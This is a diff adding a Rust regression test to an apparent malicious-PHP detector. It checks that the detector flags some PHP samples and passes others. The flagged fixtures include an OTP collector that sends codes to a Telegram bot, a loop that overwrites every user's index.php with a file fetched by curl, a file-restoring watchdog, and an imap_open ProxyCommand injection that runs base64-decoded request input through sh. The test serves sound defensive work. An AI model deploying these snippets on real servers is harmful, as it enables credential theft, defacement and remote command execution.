@@ -1669,4 +1669,40 @@ mod tests {
             file_put_contents($out, $head . $tpl);";
         assert!(whys("build.php", generator).is_empty(), "{:?}", whys("build.php", generator));
     }
+
+    #[test]
+    fn a_second_review_of_this_sessions_rules_finds_its_cases() {
+        // Regressions from a review: labels in HTML or with an arrow; an Indian order form's
+        // `pin_code`; a hotlink guard; a provisioning script run only from the command line; a
+        // download whose target is a variable named in the command; a script of its own that
+        // loads WordPress and shows a status; the site's own address included; `sleep (5)`; a
+        // ProxyCommand in lower case.
+        for label in ["<b>OTP:</b> <code>\" . $otp . \"</code>", "OTP - \" . $otp . \"", "OTP ➜ \" . $otp . \""] {
+            let src = format!(
+                "<?php $otp = $_POST['otp']; $msg = \"{label}\";\n\
+                 file_get_contents('https://api.telegram.org/bot1:a/sendMessage?text=' . urlencode($msg));"
+            );
+            assert_eq!(whys("otp.php", &src), [Why::CredentialCollector], "{label}");
+        }
+        let order = "<?php $name = $_POST['name']; $text = \"Name: \" . $name . \"\\nPin Code: \" . $_POST['pin_code'];\n\
+            file_get_contents('https://api.telegram.org/bot' . TG . '/sendMessage?text=' . urlencode($text));";
+        assert!(whys("order.php", order).is_empty(), "{:?}", whys("order.php", order));
+        let hotlink = "<?php $ua = $_SERVER['HTTP_USER_AGENT'] ?? ''; $ref = $_SERVER['HTTP_REFERER'] ?? '';\n\
+            if (!preg_match('/googlebot|bingbot/i', $ua) && $ref !== '' && parse_url($ref, PHP_URL_HOST) !== $_SERVER['HTTP_HOST']) { include 'hotlink.html'; exit; }";
+        assert!(whys("img.php", hotlink).is_empty(), "{:?}", whys("img.php", hotlink));
+        let cli = "<?php if (php_sapi_name() !== 'cli') { exit(\"CLI only\\n\"); }\nrequire __DIR__ . '/../wp-load.php';\n\
+            if (!username_exists('admin')) { $id = wp_create_user('admin', getenv('WP_ADMIN_PASS'), 'a@x.test'); (new WP_User($id))->set_role('administrator'); }";
+        assert!(whys("provision.php", cli).is_empty(), "{:?}", whys("provision.php", cli));
+        let named = "<?php foreach (scandir('/home') as $d) { $f = \"/home/$d/public_html/index.php\"; shell_exec(\"curl -s -o '$f' https://x.example/t\"); }";
+        assert!(whys("x.php", named).contains(&Why::MassDefacer), "{:?}", whys("x.php", named));
+        let status = "<?php require('./wp-blog-header.php');\n$status = file_get_contents('https://status.hosting.example/summary.txt');\n\
+            echo '<div>' . esc_html($status) . '</div>';";
+        assert!(whys("status.php", status).is_empty(), "{:?}", whys("status.php", status));
+        let own = "<?php $site = \"http://\" . $_SERVER['SERVER_NAME']; include($site . \"/header.php\");";
+        assert!(!whys("page.php", own).contains(&Why::CodeFromInternet), "{:?}", whys("page.php", own));
+        let dog = "<?php while (true) { if (!file_exists('x/index.php')) { copy('index.php', 'x/index.php'); chmod('x', 0555); } sleep (5); }";
+        assert_eq!(whys("tes.php", dog), [Why::RewritesFilesForever]);
+        let imap = "<?php $s = \"x -oproxycommand=echo\\t\" . base64_encode($_GET['c']) . \"|base64\\t-d|sh}\"; imap_open('{' . $s . ':143/imap}INBOX', '', '');";
+        assert!(whys("x.php", imap).contains(&Why::BypassesPhpLimits), "{:?}", whys("x.php", imap));
+    }
 }
